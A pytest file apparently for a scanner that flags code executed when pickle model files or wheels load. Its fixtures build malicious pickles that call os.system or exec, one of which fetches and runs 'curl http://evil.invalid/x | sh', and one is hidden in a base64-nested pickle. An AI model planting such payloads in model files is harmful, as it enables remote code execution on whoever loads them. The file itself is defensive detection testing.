"""What loading does becomes facts: with the verdict as a guard, offsets, and the ordinary words."""

from __future__ import annotations

import base64
import io
import json
import zipfile

import pytest

from depscan.facts.engine import inspect_data
from depscan.facts.fact import Fact
from depscan.facts.inspected import Inspected
from depscan.loading import route

CALL = b"cos\nsystem\n(S'%b'\ntR."
FOREIGN = b"csome_package\nNet\n(tR."


def zipped(**files: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return stream.getvalue()


def wheel(path: str, data: bytes) -> Inspected:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("ranker/__init__.py", "")
        archive.writestr(path, data)
        archive.writestr("ranker-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: ranker\nVersion: 1.0\n")
        archive.writestr("ranker-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        archive.writestr("ranker-1.0.dist-info/RECORD", "")
    return inspect_data(stream.getvalue(), "ranker-1.0-py3-none-any.whl")


def of(result: Inspected, what: str) -> list[Fact]:
    return [fact for fact in result.facts if fact.what == what]


def test_a_call_is_a_fact_with_verdict_and_offset_and_the_ordinary_word() -> None:
    result = inspect_data(CALL % b"true", "model.pkl")
    (call,) = of(result, "load.call")
    assert (call.callee, call.when, call.guards, call.values) == ("os.system", "load", ("hostile",), ("call", "true"))
    assert call.offset == CALL.replace(b"%b", b"true").index(b"R")
    assert call.text == "os.system('true')"
    (run,) = of(result, "shell.run")
    assert (run.when, run.values) == ("load", ("true",))


def test_the_command_of_a_call_is_read_by_the_shell_s_reader() -> None:
    result = inspect_data(CALL % b"curl http://evil.invalid/x | sh", "model.pkl")
    assert any("evil.invalid" in value for fact in of(result, "net.download") for value in fact.values)
    assert any(fact.layer == ("shell",) for fact in result.facts)


def test_the_code_of_a_call_is_read_by_the_python_reader() -> None:
    result = inspect_data(b"cbuiltins\nexec\n(S'import os; os.remove(\"/tmp/x\")'\ntR.", "model.pkl")
    assert any("/tmp/x" in fact.values for fact in of(result, "file.delete"))


def test_a_foreign_step_names_its_package_and_the_record_needs_it() -> None:
    result = inspect_data(FOREIGN, "model.pkl")
    assert {guard for fact in result.facts for guard in fact.guards} == {"foreign", "package:some-package"}
    assert result.models[0].needs == ("some-package",)
    assert result.models[0].verdict == "foreign code needed"


def test_known_steps_are_in_the_record_and_no_facts() -> None:
    result = inspect_data(b"ccollections\nOrderedDict\n(tR.", "model.pkl")
    assert result.facts == ()
    assert [step[2] for step in result.models[0].program] == ["known"]


def test_damage_is_a_gap_at_load() -> None:
    result = inspect_data(b"\x80\x04]", "model.pkl")
    assert [(gap.when, gap.fatal) for gap in result.gaps] == [("load", False)]
    assert result.models[0].verdict == "incomplete"


def test_a_defect_of_one_reader_is_a_fatal_gap_of_that_file_only(monkeypatch: pytest.MonkeyPatch) -> None:
    from depscan.loading.formats import safetensors

    def fails(*_: object) -> None:
        raise KeyError("defect")

    monkeypatch.setattr(safetensors, "read", fails)
    header = json.dumps({}).encode()
    good = len(header).to_bytes(8, "little") + header
    result = inspect_data(zipped(a_dot_safetensors=good, b_dot_pkl=CALL % b"true"), "models.zip")
    assert [(gap.path, gap.fatal) for gap in result.gaps] == [("a.safetensors", True)]
    assert "KeyError" in result.gaps[0].why
    assert [model.path for model in result.models] == ["b.pkl"]
    assert of(result, "load.call")


def test_a_defect_of_what_tells_formats_is_told_as_well(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object, **__: object) -> None:
        raise RuntimeError

    monkeypatch.setattr(route, "format_of", fails)
    assert [gap.fatal for gap in inspect_data(CALL % b"true", "model.pkl").gaps] == [True]


@pytest.mark.parametrize(("path", "when"), [("ranker/model.pkl", "load"), ("ranker/tests/data/model.pkl", "test")])
def test_a_model_in_a_package_is_read_and_one_in_its_tests_counts_as_such(path: str, when: str) -> None:
    result = wheel(path, CALL % b"true")
    assert {fact.when for fact in of(result, "load.call")} == {when}
    assert [model.path for model in result.models] == [path]


def test_damage_in_a_package_s_data_is_not_needed() -> None:
    gaps = [gap for gap in wheel("ranker/model.pkl", b"\x80\x04]").gaps if gap.path == "ranker/model.pkl"]
    assert gaps
    assert {gap.when for gap in gaps} == {"call"}


def test_the_test_folder_of_a_model_archive_is_no_excuse() -> None:
    result = inspect_data(zipped(tests__model_dot_pkl=CALL % b"true"), "models.zip")
    assert {fact.when for fact in of(result, "load.call")} == {"load"}


def test_decodings_stand_in_the_layer() -> None:
    inner = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
    outer = b"cpickle\nloads\n(cbase64\nb64decode\n(S'" + base64.b64encode(inner) + b"'\ntRtR."
    assert of(inspect_data(outer, "model.pkl"), "load.call")


def test_the_record_says_where_it_stands() -> None:
    (model,) = inspect_data(zipped(a__b_dot_pkl=CALL % b"true"), "models.zip").models
    assert model.artifact == "models.zip"
    assert model.shown.startswith("models.zip > ")


@pytest.mark.parametrize("top", ["demo", "examples", "ci"])
def test_a_package_named_like_a_test_folder_is_read_as_the_product(top: str) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(f"{top}/__init__.py", "")
        archive.writestr(f"{top}/model.pkl", CALL % b"true")
        archive.writestr(f"{top}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {top}\nVersion: 1.0\n")
        archive.writestr(f"{top}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    result = inspect_data(stream.getvalue(), f"{top}-1.0-py3-none-any.whl")
    assert {fact.when for fact in of(result, "load.call")} == {"load"}
